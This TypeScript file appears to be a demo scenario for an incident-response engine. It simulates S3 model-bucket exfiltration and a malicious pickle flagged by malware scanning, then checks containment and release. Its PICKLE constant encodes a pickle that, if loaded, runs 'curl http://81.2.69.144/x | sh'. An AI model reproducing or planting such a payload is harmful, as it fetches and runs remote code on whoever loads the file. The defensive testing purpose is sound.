/**
 * Model-bucket exfiltration with a malicious pickle (`npm start -- --scenario model-bucket-pickle`): a versioned model
 * bucket in moto_server with a bucket policy of its own; a compromised CI user exfiltrates from it
 * (`Exfiltration:S3/AnomalousBehavior` with its access key) and uploads a pickled "model" that runs a shell command
 * when loaded, which Malware Protection for S3 flags (`THREATS_FOUND`). The engine contains both: the bucket (public
 * access blocked, ACLs disabled, the user denied by a statement merged into the policy) and the object (copied with its
 * SHA-256 into the case, tagged, hidden by a delete marker). Everything is read back, the clean model next to it is
 * untouched, then both incidents are released and the original state read back.
 */
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import {
  CreateBucketCommand,
  GetBucketOwnershipControlsCommand,
  GetBucketPolicyCommand,
  GetObjectCommand,
  GetObjectTaggingCommand,
  GetPublicAccessBlockCommand,
  DeleteBucketOwnershipControlsCommand,
  HeadObjectCommand,
  ListObjectVersionsCommand,
  PutBucketPolicyCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { canonicalJson } from '../../actions/action-support.js';
import { formatPlan } from '../../cli/print-incident.js';
import { verifyManifest } from '../../evidence/verify-manifest.js';
import type { SubjectOutcome } from '../../engine/responder.js';
import type { Finding } from '../../findings/model.js';
import { parseRecord } from '../../findings/read-input.js';
import { scanResultFinding } from '../../findings/scan-result-finding.js';
import type { DemoScenario, ScenarioContext } from '../scenario.js';

const POLICY = `
version: 1
defaults: { mode: approve }
rules:
  - name: model-bucket-data-access
    match: { type: ["Exfiltration:S3/", "Impact:S3/", "UnauthorizedAccess:S3/"], subject: [s3-bucket] }
    mode: contain
  - name: malicious-model-artefacts
    match: { type: ["Object:S3/"], subject: [s3-object] }
    mode: contain
`;

// The opcodes of `os.system("curl … | sh")`: loading this "model" with pickle runs the command. Never loaded here.
const PICKLE = Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from("cos\nsystem\n(S'curl http://81.2.69.144/x | sh'\ntR.", 'latin1')]);
const USER_ID = 'AIDA3XFRBF23CIBOT001';

export const modelBucketPickleScenario: DemoScenario = {
  name: 'model-bucket-pickle',
  summary: 'model-bucket exfiltration with a malicious pickle: deny the stolen key on the bucket, hide the pickle, prove it, release it',
  policyYaml: POLICY,
  run,
};

async function run({ log, check, accountId, region, clientConfig, runtime, evidenceDir }: ScenarioContext): Promise<void> {
  const s3 = new S3Client({ ...clientConfig, forcePathStyle: true });
  const bucket = `ml-models-${accountId}`;
  const key = 'llm/v3/model.pkl';
  const cleanKey = 'llm/v2/model.safetensors';
  log('2. Seeding a versioned model bucket with its own policy, a clean model and a pickled one…');
  await s3.send(new CreateBucketCommand({ Bucket: bucket }));
  // Buckets created before April 2023 have no ownership controls: release must give back exactly that.
  await s3.send(new DeleteBucketOwnershipControlsCommand({ Bucket: bucket })).catch(() => undefined);
  await s3.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Enabled' } }));
  const ownPolicy = JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Sid: 'InferenceReads', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${accountId}:role/inference` }, Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` }],
  });
  await s3.send(new PutBucketPolicyCommand({ Bucket: bucket, Policy: ownPolicy }));
  const policyBefore = await policyOf(s3, bucket);
  const clean = await s3.send(new PutObjectCommand({ Bucket: bucket, Key: cleanKey, Body: Buffer.from('clean weights'), Tagging: 'GuardDutyMalwareScanStatus=NO_THREATS_FOUND' }));
  const flagged = await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: PICKLE, Tagging: 'GuardDutyMalwareScanStatus=THREATS_FOUND' }));
  const sha256 = createHash('sha256').update(PICKLE).digest('hex');
  log(`   s3://${bucket}: ${cleanKey} (clean), ${key} (pickle, SHA-256 ${sha256.slice(0, 16)}…)`);

  // moto evaluates a bucket policy's Deny on object calls without the request's condition keys, so the deny for
  // the CI user (`aws:userid` = its id) would refuse every object call in the emulator, the responder's and this
  // demo's reads included; in AWS it matches the CI user only (proven with a policy evaluator in
  // test/infra/iam-evaluator.test.ts). So the story reads the objects back while the bucket deny is not in place.
  log('3. Malware Protection for S3 flags the pickle (THREATS_FOUND); the clean model’s scan is NO_THREATS_FOUND…');
  const scan = scanFinding(bucket, key, flagged.VersionId ?? 'null', accountId, region);
  const cleanScan = scanFinding(bucket, cleanKey, clean.VersionId ?? 'null', accountId, region, 'NO_THREATS_FOUND');
  check('a clean scan result is no finding (nothing to contain)', cleanScan === undefined, 'NO_THREATS_FOUND');
  if (scan === undefined) throw new Error('the THREATS_FOUND scan result did not become a finding');
  const r2 = await runtime.responder.respond(scan);
  const objectOutcome = r2.outcomes.find((o) => o.subject.kind === 's3-object');
  if (!objectOutcome) throw new Error('the engine opened no incident for the object');
  await printIncident(runtime, objectOutcome, log);

  log('4. Reading the object back from the emulator…');
  const served = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key })).then(
    () => 'served',
    (err: { $metadata?: { httpStatusCode?: number } }) => String(err.$metadata?.httpStatusCode ?? 'error'),
  );
  check('the pickle is no longer served (delete marker: 404)', served === '404', served);
  const versions = await s3.send(new ListObjectVersionsCommand({ Bucket: bucket, Prefix: key }));
  check('the flagged version is kept', (versions.Versions ?? []).some((v) => v.VersionId === flagged.VersionId) && (versions.DeleteMarkers ?? []).length === 1, `${(versions.Versions ?? []).length} version(s), ${(versions.DeleteMarkers ?? []).length} delete marker(s)`);
  const tags = (await s3.send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId }))).TagSet ?? [];
  check('the version tagged tourniquet:quarantine', tags.some((t) => t.Key === 'tourniquet:quarantine' && t.Value === objectOutcome.incidentId), tags.map((t) => `${t.Key}=${t.Value}`).join(', '));
  const copy = objectOutcome.steps.find((s) => s.stepId === 'capture-object')?.output as { sha256?: string } | undefined;
  check('copied into the case with its SHA-256', copy?.sha256 === sha256, copy?.sha256 ?? '-');
  const cleanHead = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: cleanKey }));
  check('the clean model is served, untouched', cleanHead.VersionId === clean.VersionId, cleanHead.VersionId ?? '-');

  log('5. GuardDuty: the CI user’s key reads the models from a new place (Exfiltration:S3/AnomalousBehavior)…');
  const r1 = await runtime.responder.respond(exfiltrationFinding(bucket, accountId, region));
  const bucketOutcome = r1.outcomes.find((o) => o.subject.kind === 's3-bucket');
  if (!bucketOutcome) throw new Error('the engine opened no incident for the bucket');
  await printIncident(runtime, bucketOutcome, log);
  const pab = await s3.send(new GetPublicAccessBlockCommand({ Bucket: bucket })).then((x) => x.PublicAccessBlockConfiguration, () => undefined);
  check('public access blocked (all four flags)', pab !== undefined && Object.values(pab).every((v) => v === true), JSON.stringify(pab ?? null));
  check('ACLs disabled (BucketOwnerEnforced)', (await ownershipOf(s3, bucket)) === 'BucketOwnerEnforced', (await ownershipOf(s3, bucket)) ?? 'none');
  const statements = statementsOf(await policyOf(s3, bucket));
  check('the bucket’s own statement kept', statements.some((s) => s['Sid'] === 'InferenceReads'), statements.map((s) => String(s['Sid'])).join(', '));
  const deny = statements.find((s) => s['Effect'] === 'Deny');
  check('the CI user denied by aws:userid, no one else', canonicalJson(deny?.['Condition']) === canonicalJson({ StringEquals: { 'aws:userid': USER_ID } }) && deny?.['Principal'] === '*', JSON.stringify(deny?.['Condition'] ?? null));

  log('6. Releasing both incidents (the bucket first)…');
  const rb = await runtime.responder.release(bucketOutcome.incidentId, { by: 'demo', reason: 'key rotated, bucket reviewed' });
  check('bucket policy JSON-equal to the original', canonicalJson(JSON.parse((await policyOf(s3, bucket)) ?? 'null')) === canonicalJson(JSON.parse(policyBefore ?? 'null')), 'deny statement removed');
  const pabAfter = await s3.send(new GetPublicAccessBlockCommand({ Bucket: bucket })).then(() => 'present', () => 'absent');
  check('public access block absent again', pabAfter === 'absent', pabAfter);
  check('ownership controls absent again', (await ownershipOf(s3, bucket)) === undefined, (await ownershipOf(s3, bucket)) ?? 'absent');
  const ro = await runtime.responder.release(objectOutcome.incidentId, { by: 'demo', reason: 'rescanned: demo' });
  for (const r of [rb, ro]) log(`   ${r.incident.subjectKind}: restored ${r.released.join(', ')}`);
  check('releases succeeded', rb.failed.length === 0 && ro.failed.length === 0, `${rb.incident.status}, ${ro.incident.status}`);
  const back = await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
  // Read the body to its end: a response left unread is cut when the emulator stops, and the SDK's checksum stream
  // then raises the socket's "aborted" with no one listening.
  const backSha = createHash('sha256').update(await back.Body!.transformToByteArray()).digest('hex');
  check('the pickle is served again (same version, same bytes)', back.VersionId === flagged.VersionId && backSha === sha256, `${back.VersionId ?? '-'}, sha256 ${backSha.slice(0, 12)}…`);
  const tagsAfter = (await s3.send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId }))).TagSet ?? [];
  check('its prior tag set restored', tagsAfter.length === 1 && tagsAfter[0]?.Key === 'GuardDutyMalwareScanStatus', tagsAfter.map((t) => `${t.Key}=${t.Value}`).join(', '));

  log('7. Verifying the evidence manifests (SHA-256, chained)…');
  for (const o of [objectOutcome, bucketOutcome]) {
    const incident = await runtime.responder.getIncident(o.incidentId);
    const verdict = await verifyManifest(incident.evidenceLocation ?? join(evidenceDir, o.incidentId));
    check(`${o.subject.kind} evidence chain intact`, verdict.ok, `${verdict.entries} entries`);
  }
}

async function printIncident(runtime: ScenarioContext['runtime'], o: SubjectOutcome, log: (line: string) => void): Promise<void> {
  const incident = await runtime.responder.getIncident(o.incidentId);
  log(`   ${o.subject.kind} ${o.subject.id}: ${o.status}`);
  for (const l of formatPlan(incident.plan, o.steps)) log(l);
}

function exfiltrationFinding(bucket: string, accountId: string, region: string): Finding {
  const id = `model-bucket-exfiltration-${bucket}`;
  const rec = parseRecord(
    {
      schemaVersion: '2.0',
      accountId,
      region,
      partition: 'aws',
      id,
      arn: `arn:aws:guardduty:${region}:${accountId}:detector/demo/finding/${id}`,
      type: 'Exfiltration:S3/AnomalousBehavior',
      resource: {
        resourceType: 'S3Bucket',
        accessKeyDetails: { accessKeyId: 'AKIA3XFRBF23CIBOT001', principalId: USER_ID, userName: 'ci-bot', userType: 'IAMUser' },
        s3BucketDetails: [{ name: bucket, arn: `arn:aws:s3:::${bucket}`, type: 'Destination', publicAccess: { effectivePermission: 'NOT_PUBLIC' } }],
      },
      service: {
        serviceName: 'guardduty',
        detectorId: 'demo',
        action: { actionType: 'AWS_API_CALL', awsApiCallAction: { api: 'GetObject', serviceName: 's3.amazonaws.com', remoteIpDetails: { ipAddressV4: '81.2.69.144' } } },
        resourceRole: 'TARGET',
        additionalInfo: { sample: false },
        eventFirstSeen: '2026-12-03T07:00:00.000Z',
        eventLastSeen: '2026-12-03T07:10:00.000Z',
        archived: false,
        count: 1,
      },
      severity: 8,
      createdAt: '2026-12-03T07:00:00.000Z',
      updatedAt: '2026-12-03T07:10:00.000Z',
      title: `Anomalous reads of s3://${bucket} by ci-bot`,
    },
    { name: 'demo' },
  );
  if (rec.kind !== 'finding') throw new Error('the exfiltration finding did not parse as a finding');
  return rec;
}

function scanFinding(bucket: string, key: string, versionId: string, accountId: string, region: string, status = 'THREATS_FOUND'): Finding | undefined {
  const rec = parseRecord(
    {
      version: '0',
      id: `scan-${key}-${status}`,
      'detail-type': 'GuardDuty Malware Protection Object Scan Result',
      source: 'aws.guardduty',
      account: accountId,
      time: '2026-12-03T07:20:00Z',
      region,
      resources: [],
      detail: {
        schemaVersion: '1.0',
        scanStatus: 'COMPLETED',
        resourceType: 'S3_OBJECT',
        s3ObjectDetails: { bucketName: bucket, objectKey: key, versionId },
        scanResultDetails: { scanResultStatus: status, ...(status === 'THREATS_FOUND' ? { threats: [{ name: 'Python.Pickle.Exploit' }] } : {}) },
      },
    },
    { name: 'demo' },
  );
  if (rec.kind !== 'malware-scan-result') throw new Error('the scan result did not parse');
  return scanResultFinding(rec);
}

async function policyOf(s3: S3Client, bucket: string): Promise<string | undefined> {
  return s3.send(new GetBucketPolicyCommand({ Bucket: bucket })).then((x) => x.Policy, () => undefined);
}

async function ownershipOf(s3: S3Client, bucket: string): Promise<string | undefined> {
  return s3.send(new GetBucketOwnershipControlsCommand({ Bucket: bucket })).then((x) => x.OwnershipControls?.Rules?.[0]?.ObjectOwnership, () => undefined);
}

function statementsOf(policy: string | undefined): Array<Record<string, unknown>> {
  if (policy === undefined) return [];
  const s = (JSON.parse(policy) as { Statement: unknown }).Statement;
  return (Array.isArray(s) ? s : [s]) as Array<Record<string, unknown>>;
}
